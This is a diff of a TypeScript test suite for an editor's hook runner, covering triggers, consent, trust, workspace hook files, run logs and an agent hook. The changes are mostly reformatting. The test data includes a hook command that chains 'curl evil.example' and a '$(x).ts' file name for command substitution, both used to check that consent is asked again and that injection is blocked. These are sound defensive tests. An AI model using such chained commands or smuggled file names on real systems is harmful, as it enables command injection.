@@ -40,13 +40,17 @@ describe('what fires a hook', () => {
   it('what is saved together is one run, with the list of files', async () => {
     const files = { 'a.ts': '', 'b.ts': '', 'c.md': '' };
     const harness = await startHooks([{ name: 'lint', matcher: '\\.ts$' }], { commands: OK, files });
-    for (const name of ['b.ts', 'a.ts', 'c.md', 'a.ts']) await harness.ports.files.writeText(`/project/${name}`, `${name}!`);
+    for (const name of ['b.ts', 'a.ts', 'c.md', 'a.ts'])
+      await harness.ports.files.writeText(`/project/${name}`, `${name}!`);
     await settleHooks(harness);
     assert.equal(commands(harness.ports).length, 1);
     const [run] = harness.ports.processes.runs;
     const event = JSON.parse(run?.stdin ?? '');
     assert.deepEqual(event.file_paths, ['b.ts', 'a.ts']);
-    assert.deepEqual([event.hook_event_name, event.cwd, event.file_path], ['PostFileSave', '/project', 'b.ts']);
+    assert.deepEqual(
+      [event.hook_event_name, event.cwd, event.file_path],
+      ['PostFileSave', '/project', 'b.ts'],
+    );
     assert.deepEqual(JSON.parse(run?.env?.USER_PROMPT ?? ''), event);
     assert.equal(run?.env?.KIRO_HOOK_FILE, 'b.ts');
     assert.equal(run?.timeout, 60_000);
@@ -67,7 +71,10 @@ describe('what fires a hook', () => {
   });
 
   it('a name that no quoting makes safe is said, and the command does not run', async () => {
-    const harness = await startHooks([{ name: 'echo', command: 'sh -c "echo {{filePath}}"' }], { commands: OK, files: { '$(x).ts': '' } });
+    const harness = await startHooks([{ name: 'echo', command: 'sh -c "echo {{filePath}}"' }], {
+      commands: OK,
+      files: { '$(x).ts': '' },
+    });
     await save(harness, '$(x).ts', '1');
     await settleHooks(harness);
     assert.deepEqual(commands(harness.ports), []);
@@ -81,8 +88,13 @@ describe('what fires a hook', () => {
     const names = Array.from({ length: 2000 }, (_, index) => `some/folder/file-${index}.ts`);
     const files = Object.fromEntries(names.map((name) => [`/project/${name}`, '']));
     for (const path of Object.keys(files)) harness.ports.watcher.fire({ path, kind: 'deleted' });
-    const { core } = await startHooks([{ name: 'gone', trigger: 'PostFileDelete' }], { ports: harness.ports });
-    await harness.ports.files.writeText(`/project/${HOOKS}`, hookFile({ name: 'gone', trigger: 'PostFileDelete' }));
+    const { core } = await startHooks([{ name: 'gone', trigger: 'PostFileDelete' }], {
+      ports: harness.ports,
+    });
+    await harness.ports.files.writeText(
+      `/project/${HOOKS}`,
+      hookFile({ name: 'gone', trigger: 'PostFileDelete' }),
+    );
     await quiet();
     for (const path of Object.keys(files)) harness.ports.watcher.fire({ path, kind: 'deleted' });
     await settleHooks({ core, ports: harness.ports });
@@ -92,10 +104,17 @@ describe('what fires a hook', () => {
   });
 
   it('not what came and went, nor folders, nor typing', async () => {
-    const harness = await startHooks([{ name: 'new', trigger: 'PostFileCreate' }, { name: 'gone', trigger: 'PostFileDelete' }, { name: 'saved' }], {
-      commands: OK,
-      files: { 'src/a.ts': '' },
-    });
+    const harness = await startHooks(
+      [
+        { name: 'new', trigger: 'PostFileCreate' },
+        { name: 'gone', trigger: 'PostFileDelete' },
+        { name: 'saved' },
+      ],
+      {
+        commands: OK,
+        files: { 'src/a.ts': '' },
+      },
+    );
     await save(harness, '.a.swp', 'x');
     await harness.ports.files.remove('/project/.a.swp');
     harness.ports.watcher.fire({ path: '/project/src', kind: 'created' });
@@ -105,11 +124,15 @@ describe('what fires a hook', () => {
   });
 
   it('a file that never rests does not keep the others waiting', async () => {
-    const harness = await startHooks([{ name: 'lint' }], { commands: OK, files: { 'a.ts': '', 'log.txt': '' } });
+    const harness = await startHooks([{ name: 'lint' }], {
+      commands: OK,
+      files: { 'a.ts': '', 'log.txt': '' },
+    });
     await save(harness, 'a.ts', '1');
     for (let round = 0; round < 30; round++) {
       await harness.ports.clock.advance(100);
-      if (commands(harness.ports).length === 0) await harness.ports.files.writeText('/project/log.txt', String(round));
+      if (commands(harness.ports).length === 0)
+        await harness.ports.files.writeText('/project/log.txt', String(round));
     }
     assert.ok(commands(harness.ports).length > 0);
   });
@@ -117,7 +140,10 @@ describe('what fires a hook', () => {
 
 describe('consent', () => {
   it('is asked once for exactly what runs; a changed hook asks again', async () => {
-    const harness = await startHooks([{ name: 'lint', command: 'npm run lint' }], { commands: OK, files: { 'a.ts': '' } });
+    const harness = await startHooks([{ name: 'lint', command: 'npm run lint' }], {
+      commands: OK,
+      files: { 'a.ts': '' },
+    });
     const { core, ports } = harness;
     assert.equal(core.hooks.isAgreed(named(harness, 'lint').id), false);
     for (const text of ['1', '2']) {
@@ -127,7 +153,10 @@ describe('consent', () => {
     assert.equal(ports.person.questions.length, 1);
     assert.match(ports.person.questions[0]?.detail ?? '', /npm run lint/);
     assert.equal(core.hooks.isAgreed(named(harness, 'lint').id), true);
-    await ports.files.writeText(`/project/${HOOKS}`, hookFile({ name: 'lint', command: 'npm run lint; curl evil.example' }));
+    await ports.files.writeText(
+      `/project/${HOOKS}`,
+      hookFile({ name: 'lint', command: 'npm run lint; curl evil.example' }),
+    );
     await quiet();
     assert.equal(core.hooks.isAgreed(named(harness, 'lint').id), false);
     await save(harness, 'a.ts', '3');
@@ -141,7 +170,11 @@ describe('consent', () => {
   });
 
   it('a no is not asked for at every save; the person can still say yes', async () => {
-    const harness = await startHooks([{ name: 'lint' }], { commands: OK, answers: [undefined, 'yes'], files: { 'a.ts': '' } });
+    const harness = await startHooks([{ name: 'lint' }], {
+      commands: OK,
+      answers: [undefined, 'yes'],
+      files: { 'a.ts': '' },
+    });
     for (const text of ['1', '2', '3']) {
       await save(harness, 'a.ts', text);
       await settleHooks(harness);
@@ -160,7 +193,11 @@ describe('consent', () => {
       new Promise<string>((resolve) => {
         answer = resolve;
       });
-    const harness = await startHooks([{ name: 'lint' }], { commands: OK, answers, files: { 'a.ts': '', 'b.ts': '' } });
+    const harness = await startHooks([{ name: 'lint' }], {
+      commands: OK,
+      answers,
+      files: { 'a.ts': '', 'b.ts': '' },
+    });
     await save(harness, 'a.ts', '1');
     await settleHooks(harness);
     await save(harness, 'b.ts', '1');
@@ -169,12 +206,20 @@ describe('consent', () => {
     assert.equal(harness.core.hooks.isRunning(named(harness, 'lint').id), false);
     answer('yes');
     await settleHooks(harness);
-    assert.deepEqual(harness.ports.processes.runs.map(({ env }) => env?.KIRO_HOOK_FILE), ['a.ts', 'b.ts']);
+    assert.deepEqual(
+      harness.ports.processes.runs.map(({ env }) => env?.KIRO_HOOK_FILE),
+      ['a.ts', 'b.ts'],
+    );
     assert.equal(harness.ports.person.questions.length, 1);
   });
 
   it('given in one folder of a workspace does not count in another', async () => {
-    const files = { [HOOKS]: hookFile({ name: 'lint' }), '/other/.kiro/hooks/a.json': hookFile({ name: 'lint' }), '/other/a.ts': '', 'a.ts': '' };
+    const files = {
+      [HOOKS]: hookFile({ name: 'lint' }),
+      '/other/.kiro/hooks/a.json': hookFile({ name: 'lint' }),
+      '/other/a.ts': '',
+      'a.ts': '',
+    };
     const harness = await startCore({ roots: ['/project', '/other'], files, commands: OK, answers: ['yes'] });
     await save(harness, 'a.ts', '1');
     await settleHooks(harness);
@@ -187,7 +232,11 @@ describe('consent', () => {
 
   it('headless: only what was agreed to before', async () => {
     const person: Person = { ...createFakePerson(), present: false };
-    const harness = await startHooks([{ name: 'lint' }], { commands: OK, files: { 'a.ts': '' }, with: { person } });
+    const harness = await startHooks([{ name: 'lint' }], {
+      commands: OK,
+      files: { 'a.ts': '' },
+      with: { person },
+    });
     await save(harness, 'a.ts', '1');
     await settleHooks(harness);
     assert.deepEqual(commands(harness.ports), []);
@@ -208,7 +257,11 @@ describe('hooks that are off', () => {
   ];
   for (const [what, options, reason] of off) {
     it(`${what}: nothing fires, and it says why`, async () => {
-      const harness = await startHooks([{ name: 'lint' }], { commands: OK, files: { 'a.ts': '' }, ...options });
+      const harness = await startHooks([{ name: 'lint' }], {
+        commands: OK,
+        files: { 'a.ts': '' },
+        ...options,
+      });
       await save(harness, 'a.ts', '1');
       await settleHooks(harness);
       assert.deepEqual(commands(harness.ports), []);
@@ -221,7 +274,12 @@ describe('hooks that are off', () => {
   }
 
   it('fire as soon as trust is given or the setting says so, and views hear of it', async () => {
-    const harness = await startHooks([{ name: 'lint' }], { trusted: false, settings: { hooks: 'off' }, commands: OK, files: { 'a.ts': '' } });
+    const harness = await startHooks([{ name: 'lint' }], {
+      trusted: false,
+      settings: { hooks: 'off' },
+      commands: OK,
+      files: { 'a.ts': '' },
+    });
     let heard = 0;
     harness.core.hooks.onDidChange(() => heard++);
     harness.ports.grantTrust();
@@ -234,7 +292,8 @@ describe('hooks that are off', () => {
   });
 
   it('one that is disabled does not fire; enabling changes one word of its file', async () => {
-    const text = '{\n  // ours\n  "version": "v1",\n  "hooks": [{"name": "lint", "trigger": "PostFileSave", "enabled": false, "action": {"type": "command", "command": "lint"}}]\n}\n';
+    const text =
+      '{\n  // ours\n  "version": "v1",\n  "hooks": [{"name": "lint", "trigger": "PostFileSave", "enabled": false, "action": {"type": "command", "command": "lint"}}]\n}\n';
     const harness = await startHooks([], { commands: OK, files: { [HOOKS]: text, 'a.ts': '' } });
     const { core, ports } = harness;
     await save(harness, 'a.ts', '1');
@@ -264,7 +323,9 @@ describe('hooks that are off', () => {
 
 describe('the hooks of a workspace', () => {
   it('follow their files, also when the whole folder goes', async () => {
-    const harness = await startHooks([{ name: 'a' }], { files: { '.kiro/hooks/b.json': hookFile({ name: 'b' }) } });
+    const harness = await startHooks([{ name: 'a' }], {
+      files: { '.kiro/hooks/b.json': hookFile({ name: 'b' }) },
+    });
     const { core, ports } = harness;
     const names = () => core.hooks.all.map(({ name }) => name);
     assert.deepEqual(names(), ['a', 'b']);
@@ -291,7 +352,11 @@ describe('the hooks of a workspace', () => {
 
   it('are those of that folder alone: no sub-folders, no links, no other folders', async () => {
     const harness = await startHooks([{ name: 'a' }], {
-      files: { '.kiro/hooks-off/x.json': hookFile({ name: 'off' }), '.kiro/hooks/sub/x.json': hookFile({ name: 'sub' }), '/elsewhere/x.json': hookFile({ name: 'link' }) },
+      files: {
+        '.kiro/hooks-off/x.json': hookFile({ name: 'off' }),
+        '.kiro/hooks/sub/x.json': hookFile({ name: 'sub' }),
+        '/elsewhere/x.json': hookFile({ name: 'link' }),
+      },
     });
     const { core, ports } = harness;
     ports.files.link('/project/.kiro/hooks/link.json', '/elsewhere/x.json');
@@ -299,21 +364,32 @@ describe('the hooks of a workspace', () => {
       ports.watcher.fire({ path: `/project/${path}`, kind: 'changed' });
     }
     await quiet();
-    assert.deepEqual(core.hooks.all.map(({ name }) => name), ['a']);
+    assert.deepEqual(
+      core.hooks.all.map(({ name }) => name),
+      ['a'],
+    );
   });
 
   it('one file that cannot be read is a problem; the others work', async () => {
-    const ports = createTestPorts({ files: { [HOOKS]: hookFile({ name: 'a' }), '.kiro/hooks/b.json': hookFile({ name: 'b' }) } });
+    const ports = createTestPorts({
+      files: { [HOOKS]: hookFile({ name: 'a' }), '.kiro/hooks/b.json': hookFile({ name: 'b' }) },
+    });
     ports.files.fail('/project/.kiro/hooks/a.json', 'read', 'permission', 9);
     const { core } = await startCore({ ports });
-    assert.deepEqual(core.hooks.all.map(({ name }) => name), ['b']);
+    assert.deepEqual(
+      core.hooks.all.map(({ name }) => name),
+      ['b'],
+    );
     assert.match(core.hooks.problems[0]?.message ?? '', /cannot be read/);
   });
 });
 
 describe('a run', () => {
   it('is kept: its result is there after a restart, damaged lines or not', async () => {
-    const harness = await startHooks([{ name: 'test' }], { commands: { test: { exitCode: 2, output: 'red\n' } }, files: { 'a.ts': '' } });
+    const harness = await startHooks([{ name: 'test' }], {
+      commands: { test: { exitCode: 2, output: 'red\n' } },
+      files: { 'a.ts': '' },
+    });
     const { id } = named(harness, 'test');
     await save(harness, 'a.ts', '1');
     await settleHooks(harness);
@@ -321,7 +397,10 @@ describe('a run', () => {
     await harness.ports.files.appendText(log, '{"hook":7}\nnull\n{"torn');
     const { core } = await startCore({ ports: harness.ports });
     const run = core.hooks.lastRun(id);
-    assert.deepEqual([run?.outcome, run?.exitCode, run?.output, run?.files], ['failed', 2, 'red\n', ['a.ts']]);
+    assert.deepEqual(
+      [run?.outcome, run?.exitCode, run?.output, run?.files],
+      ['failed', 2, 'red\n', ['a.ts']],
+    );
   });
 
   it('counts though it cannot be kept', async () => {
@@ -337,12 +416,17 @@ describe('a run', () => {
       commands: ({ command }) => (command === 'b' ? { outcome: 'timedOut', exitCode: undefined } : 0),
     });
     for (const name of ['a', 'b', 'c']) await harness.core.hooks.runNow(named(harness, name).id);
-    assert.deepEqual(harness.ports.processes.runs.map(({ timeout }) => timeout), [60_000, 5000, undefined]);
+    assert.deepEqual(
+      harness.ports.processes.runs.map(({ timeout }) => timeout),
+      [60_000, 5000, undefined],
+    );
     assert.equal(harness.core.hooks.lastRun(named(harness, 'b').id)?.outcome, 'timedOut');
   });
 
   it('can be stopped, and ends when Earshot closes', async () => {
-    const harness = await startHooks([{ name: 'watch', timeout: 0 }], { commands: { watch: { hold: forever } } });
+    const harness = await startHooks([{ name: 'watch', timeout: 0 }], {
+      commands: { watch: { hold: forever } },
+    });
     const { core, ports } = harness;
     const { id } = named(harness, 'watch');
     const run = core.hooks.runNow(id);
@@ -367,14 +451,23 @@ describe('a run', () => {
   });
 
   it('of an agent works with the tools, asks before it writes, and ends with the session', async () => {
-    const turns = [{ tools: [{ name: 'write_file', input: { path: 'NOTES.md', content: 'x' } }] }, { text: 'Done.' }];
-    const harness = await startHooks([{ name: 'notes', prompt: 'Keep notes.' }], { turns, files: { 'a.ts': '', 'AGENTS.md': 'Be brief.' } });
+    const turns = [
+      { tools: [{ name: 'write_file', input: { path: 'NOTES.md', content: 'x' } }] },
+      { text: 'Done.' },
+    ];
+    const harness = await startHooks([{ name: 'notes', prompt: 'Keep notes.' }], {
+      turns,
+      files: { 'a.ts': '', 'AGENTS.md': 'Be brief.' },
+    });
     const { core, ports } = harness;
     await save(harness, 'a.ts', '1');
-    await until(ports, () => core.sessions.known[0]?.state.items.some((item) => item.type === 'tool' && item.status === 'asking'));
+    await until(ports, () =>
+      core.sessions.known[0]?.state.items.some((item) => item.type === 'tool' && item.status === 'asking'),
+    );
     const asked = latest(core).items.find((item) => item.type === 'tool');
     const user = latest(core).items.find((item) => item.type === 'user');
-    for (const part of ['Keep notes.', 'Files: a.ts', 'Be brief.']) assert.ok(user?.type === 'user' && user.text.includes(part), part);
+    for (const part of ['Keep notes.', 'Files: a.ts', 'Be brief.'])
+      assert.ok(user?.type === 'user' && user.text.includes(part), part);
     core.sessions.answer(core.sessions.known[0]?.id ?? '', asked?.type === 'tool' ? asked.call : '', 'once');
     await settleHooks(harness);
     assert.equal(ports.files.text('NOTES.md'), 'x');
